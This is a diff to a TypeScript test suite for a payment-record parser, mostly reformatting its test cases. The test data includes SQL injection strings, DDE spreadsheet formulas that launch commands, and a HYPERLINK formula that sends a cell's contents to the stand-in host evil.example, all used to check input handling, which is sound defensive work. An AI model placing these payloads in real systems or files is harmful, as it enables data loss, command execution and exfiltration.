@@ -27,8 +27,8 @@ export const INJECTIONS: readonly (readonly [string, string])[] = [
   ['SQL', "x'); DROP TABLE es_events; --"],
   ['SQL comment and quote', `' OR '1'='1' /* */ --`],
   ['spreadsheet formula =', '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
-  ['spreadsheet formula +', '+SUM(1+1)*cmd|\' /C calc\'!A0'],
-  ['spreadsheet formula -', '-2+3+cmd|\' /C calc\'!A0'],
+  ['spreadsheet formula +', "+SUM(1+1)*cmd|' /C calc'!A0"],
+  ['spreadsheet formula -', "-2+3+cmd|' /C calc'!A0"],
   ['spreadsheet formula @', '@SUM(A1:A9)'],
   ['tab-led formula', '\t=1+1'],
   ['CSV breaking quotes and newlines', 'a","b"\r\n"c,d'],
@@ -118,7 +118,11 @@ function textField(kind: RecordKind, value: string): Record<string, unknown> {
 }
 
 function amountCases(kind: RecordKind): RecordCase[] {
-  const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({ name: `amount ${name}`, text: recordText(kind, { amount: fragment }), expect });
+  const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({
+    name: `amount ${name}`,
+    text: recordText(kind, { amount: fragment }),
+    expect,
+  });
   const required = kind !== 'register'; // a register row may omit amount (transaction_details)
   return [
     c('with two decimals as a string', '"10.50"', accept({ amount: '1050' })),
@@ -167,7 +171,11 @@ function amountCases(kind: RecordKind): RecordCase[] {
 
 function feeCases(kind: RecordKind): RecordCase[] {
   if (kind === 'webhook') {
-    const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({ name: `fee ${name}`, text: recordText(kind, { fee: fragment }), expect });
+    const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({
+      name: `fee ${name}`,
+      text: recordText(kind, { fee: fragment }),
+      expect,
+    });
     return [
       c('negative', '{"amount": -2.5, "currency": "UAH"}', refuse('fee.amount', /negative/)),
       c('with three decimals', '{"amount": 2.505, "currency": "UAH"}', refuse('fee.amount', /more than two decimals/)),
@@ -177,7 +185,11 @@ function feeCases(kind: RecordKind): RecordCase[] {
       c('absent', undefined, accept({ fee: null })),
     ];
   }
-  const c = (name: string, fragment: string, expect: Expected): RecordCase => ({ name: `merchantFee ${name}`, text: recordText(kind, { merchantFee: fragment }), expect });
+  const c = (name: string, fragment: string, expect: Expected): RecordCase => ({
+    name: `merchantFee ${name}`,
+    text: recordText(kind, { merchantFee: fragment }),
+    expect,
+  });
   return [
     c('negative', '"-1.75"', refuse('merchantFee', /negative/)),
     c('with three decimals', '"1.755"', refuse('merchantFee', /more than two decimals/)),
@@ -187,7 +199,11 @@ function feeCases(kind: RecordKind): RecordCase[] {
 }
 
 function currencyCases(kind: RecordKind): RecordCase[] {
-  const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({ name: `currency ${name}`, text: recordText(kind, { currency: fragment }), expect });
+  const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({
+    name: `currency ${name}`,
+    text: recordText(kind, { currency: fragment }),
+    expect,
+  });
   return [
     c('lowercase', '"uah"', refuse('currency', /3-letter uppercase/)),
     c('four letters', '"UAHX"', refuse('currency', /3-letter uppercase/)),
@@ -206,13 +222,25 @@ function currencyCases(kind: RecordKind): RecordCase[] {
 
 function timeCases(kind: RecordKind): RecordCase[] {
   const field = F[kind].time;
-  const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({ name: `${field} ${name}`, text: recordText(kind, { [field]: fragment }), expect });
+  const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({
+    name: `${field} ${name}`,
+    text: recordText(kind, { [field]: fragment }),
+    expect,
+  });
   const out = kind === 'webhook' ? 'createdAt' : 'dateTime';
   if (kind === 'webhook') {
     return [
       c('empty (not yet set)', '""', accept({ createdAt: null })),
-      c('with milliseconds, no zone (read as UTC)', '"2024-05-01T10:00:00.123"', accept({ createdAt: '2024-05-01T10:00:00.123Z' })),
-      c('with an explicit offset', '"2024-05-01T12:00:00.000+02:00"', accept({ createdAt: '2024-05-01T10:00:00.000Z' })),
+      c(
+        'with milliseconds, no zone (read as UTC)',
+        '"2024-05-01T10:00:00.123"',
+        accept({ createdAt: '2024-05-01T10:00:00.123Z' }),
+      ),
+      c(
+        'with an explicit offset',
+        '"2024-05-01T12:00:00.000+02:00"',
+        accept({ createdAt: '2024-05-01T10:00:00.000Z' }),
+      ),
       c('all zeros', '"0000-00-00T00:00:00"', refuse(field, /not a valid time/)),
       c('30 February', '"2024-02-30T10:00:00.000"', refuse(field, /not a valid time/)),
       c('hour 25', '"2024-05-01T25:00:00.000"', refuse(field, /not a valid time/)),
@@ -243,7 +271,11 @@ function timeCases(kind: RecordKind): RecordCase[] {
 
 function idCases(kind: RecordKind): RecordCase[] {
   const field = F[kind].paymentId;
-  const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({ name: `${field} ${name}`, text: recordText(kind, { [field]: fragment }), expect });
+  const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({
+    name: `${field} ${name}`,
+    text: recordText(kind, { [field]: fragment }),
+    expect,
+  });
   return [
     c('missing', undefined, refuse(field)),
     c('null', 'null', refuse(field)),
@@ -253,8 +285,16 @@ function idCases(kind: RecordKind): RecordCase[] {
     c('longer than 256 characters', q('p'.repeat(300)), refuse(field, /longer than 256/)),
     c('with a newline', q('pay\nment'), refuse(field, /control character/)),
     c('with a NUL', '"pay\\u0000ment"', refuse(field, /NUL/)),
-    c('a number (kept as its text)', '123456789012345678901234567890', accept({ paymentId: '123456789012345678901234567890' })),
-    c('with SQL in it (an id like any other)', q("p'; DELETE FROM es_events; --"), accept({ paymentId: "p'; DELETE FROM es_events; --" })),
+    c(
+      'a number (kept as its text)',
+      '123456789012345678901234567890',
+      accept({ paymentId: '123456789012345678901234567890' }),
+    ),
+    c(
+      'with SQL in it (an id like any other)',
+      q("p'; DELETE FROM es_events; --"),
+      accept({ paymentId: "p'; DELETE FROM es_events; --" }),
+    ),
   ];
 }
 
@@ -275,44 +315,104 @@ function shapeCases(kind: RecordKind): RecordCase[] {
     c('a string', q(valid), refuse('(root)', /JSON object/)),
     c('a number', '42', refuse('(root)', /JSON object/)),
     c('an empty object', '{}', refuse(kind === 'webhook' ? 'method' : 'paymentId')),
-    c('a duplicate amount with another value', `${valid.slice(0, -1)},"amount":"999.00"}`, refuse('(root)', /Duplicate key/)),
-    c('a raw control character inside a string (not JSON)', recordText(kind, { [F[kind].text]: '"a\u0001b"' }), refuse('(root)', /invalid JSON/)),
-    c('a raw tab inside a string (not JSON)', recordText(kind, { [F[kind].text]: '"a\tb"' }), refuse('(root)', /invalid JSON/)),
+    c(
+      'a duplicate amount with another value',
+      `${valid.slice(0, -1)},"amount":"999.00"}`,
+      refuse('(root)', /Duplicate key/),
+    ),
+    c(
+      'a raw control character inside a string (not JSON)',
+      recordText(kind, { [F[kind].text]: '"a\u0001b"' }),
+      refuse('(root)', /invalid JSON/),
+    ),
+    c(
+      'a raw tab inside a string (not JSON)',
+      recordText(kind, { [F[kind].text]: '"a\tb"' }),
+      refuse('(root)', /invalid JSON/),
+    ),
     c('an unknown method', recordText(kind, { method: '"teleport"' }), refuse('method', /unknown method/)),
     c('an unknown status', recordText(kind, { status: '"done"' }), refuse('status', /unknown status/)),
     c('a numeric method', recordText(kind, { method: '5' }), refuse('method')),
-    c('method and status in another case (same meaning)', recordText(kind, { method: '"PURCHASE"', status: '" Success "' }), accept({ method: 'purchase', status: 'success' })),
+    c(
+      'method and status in another case (same meaning)',
+      recordText(kind, { method: '"PURCHASE"', status: '" Success "' }),
+      accept({ method: 'purchase', status: 'success' }),
+    ),
     c('nested 20 levels deep in an extra field (allowed)', recordText(kind, { extra: deep(20) }), accept()),
-    c('nested 33 levels deep in an extra field', recordText(kind, { extra: deep(33) }), refuse('(root)', /deeper than 32/)),
+    c(
+      'nested 33 levels deep in an extra field',
+      recordText(kind, { extra: deep(33) }),
+      refuse('(root)', /deeper than 32/),
+    ),
     c('nested 100,000 levels deep', recordText(kind, { extra: deep(100_000) }), refuse('(root)', /deeper than 32/)),
     c('only opening brackets (1,000,000)', '['.repeat(1_000_000), refuse('(root)', /deeper than 32/)),
     c('a NUL escape in a text field', recordText(kind, { [F[kind].text]: '"a\\u0000b"' }), refuse(F[kind].text, /NUL/)),
     c('a NUL escape in a member name', recordText(kind, { 'x\u0000y': '1' }), refuse('x\\u0000y', /NUL/)),
-    c('an unpaired high surrogate', recordText(kind, { [F[kind].text]: '"a\\ud800b"' }), refuse(F[kind].text, /surrogate/)),
-    c('an unpaired low surrogate deep inside', recordText(kind, { extra: '{"list": ["ok", "\\udc00"]}' }), refuse('extra.list.1', /surrogate/)),
-    c('a well-formed surrogate pair escape (accepted)', recordText(kind, { [F[kind].text]: '"\\ud83d\\ude00"' }), accept(textField(kind, '😀'))),
-    c('unknown fields (kept)', recordText(kind, { brandNew: '{"x": [1, "two", null]}' }), accept({ other: { brandNew: { x: [1, 'two', null] } } })),
-    c('a __proto__ member (no prototype pollution)', recordText(kind, { ['__proto__']: '{"polluted": true}' }), accept()),
+    c(
+      'an unpaired high surrogate',
+      recordText(kind, { [F[kind].text]: '"a\\ud800b"' }),
+      refuse(F[kind].text, /surrogate/),
+    ),
+    c(
+      'an unpaired low surrogate deep inside',
+      recordText(kind, { extra: '{"list": ["ok", "\\udc00"]}' }),
+      refuse('extra.list.1', /surrogate/),
+    ),
+    c(
+      'a well-formed surrogate pair escape (accepted)',
+      recordText(kind, { [F[kind].text]: '"\\ud83d\\ude00"' }),
+      accept(textField(kind, '😀')),
+    ),
+    c(
+      'unknown fields (kept)',
+      recordText(kind, { brandNew: '{"x": [1, "two", null]}' }),
+      accept({ other: { brandNew: { x: [1, 'two', null] } } }),
+    ),
+    c(
+      'a __proto__ member (no prototype pollution)',
+      recordText(kind, { ['__proto__']: '{"polluted": true}' }),
+      accept(),
+    ),
   ];
 }
 
 function injectionCases(kind: RecordKind): RecordCase[] {
   const out: RecordCase[] = [];
   for (const [name, value] of INJECTIONS) {
-    out.push({ name: `${name} in ${F[kind].text} (stored verbatim)`, text: recordText(kind, { [F[kind].text]: q(value) }), expect: accept(textField(kind, value)) });
-    out.push({ name: `${name} in ${F[kind].orderId} (stored verbatim)`, text: recordText(kind, { [F[kind].orderId]: q(value) }), expect: accept({ orderId: value }) });
+    out.push({
+      name: `${name} in ${F[kind].text} (stored verbatim)`,
+      text: recordText(kind, { [F[kind].text]: q(value) }),
+      expect: accept(textField(kind, value)),
+    });
+    out.push({
+      name: `${name} in ${F[kind].orderId} (stored verbatim)`,
+      text: recordText(kind, { [F[kind].orderId]: q(value) }),
+      expect: accept({ orderId: value }),
+    });
   }
   return out;
 }
 
 function webhookOnlyCases(): RecordCase[] {
-  const c = (name: string, over: Fragments, expect: Expected): RecordCase => ({ name, text: recordText('webhook', over), expect });
+  const c = (name: string, over: Fragments, expect: Expected): RecordCase => ({
+    name,
+    text: recordText('webhook', over),
+    expect,
+  });
   return [
-    c('a recurring object marks a recurring notification', { recurring: '{"id": "sub-1", "status": "active"}' }, accept({ kind: 'recurring', recurringId: 'sub-1' })),
+    c(
+      'a recurring object marks a recurring notification',
+      { recurring: '{"id": "sub-1", "status": "active"}' },
+      accept({ kind: 'recurring', recurringId: 'sub-1' }),
+    ),
     c('recurring as an array', { recurring: '[1]' }, refuse('recurring')),
     c('recurring without an id', { recurring: '{}' }, refuse('recurring.id')),
     c('a refund', { method: '"refund"', operation_id: '"op-1"' }, accept({ kind: 'refund', operationId: 'op-1' })),
-    c('operation_id as a JSON number on a purchase (kept as its text)', { operation_id: '0e0' }, accept({ kind: 'primary', operationId: '0e0' })),
+    c(
+      'operation_id as a JSON number on a purchase (kept as its text)',
+      { operation_id: '0e0' },
+      accept({ kind: 'primary', operationId: '0e0' }),
+    ),
     c('operation_id as an object', { operation_id: '{"id": 1}' }, refuse('operation_id')),
     c('method missing', { method: undefined }, refuse('method')),
     c('status missing', { status: undefined }, refuse('status')),
@@ -320,17 +420,29 @@ function webhookOnlyCases(): RecordCase[] {
 }
 
 function recordOnlyCases(kind: 'register' | 'period'): RecordCase[] {
-  const c = (name: string, over: Fragments, expect: Expected): RecordCase => ({ name, text: recordText(kind, over), expect });
+  const c = (name: string, over: Fragments, expect: Expected): RecordCase => ({
+    name,
+    text: recordText(kind, over),
+    expect,
+  });
   const out = [
     c('customerFee negative', { customerFee: '"-2.50"' }, refuse('customerFee', /negative/)),
     c('customerFee in exponent notation', { customerFee: '2.5e0' }, refuse('customerFee', /not a plain decimal/)),
   ];
   if (kind === 'register') {
     out.push(
-      c('receiverAmount with three decimals', { receiverAmount: '"58.255"' }, refuse('receiverAmount', /more than two decimals/)),
+      c(
+        'receiverAmount with three decimals',
+        { receiverAmount: '"58.255"' },
+        refuse('receiverAmount', /more than two decimals/),
+      ),
       c('reserveAmount negative', { reserveAmount: '"-5.00"' }, refuse('reserveAmount', /negative/)),
       c('originalAmount huge', { originalAmount: '"1e400"' }, refuse('originalAmount', /not a plain decimal/)),
-      c('receiverName with a formula (stored verbatim)', { receiverName: q('=cmd|" /C calc"!A0') }, accept({ receiverName: '=cmd|" /C calc"!A0' })),
+      c(
+        'receiverName with a formula (stored verbatim)',
+        { receiverName: q('=cmd|" /C calc"!A0') },
+        accept({ receiverName: '=cmd|" /C calc"!A0' }),
+      ),
     );
   }
   return out;
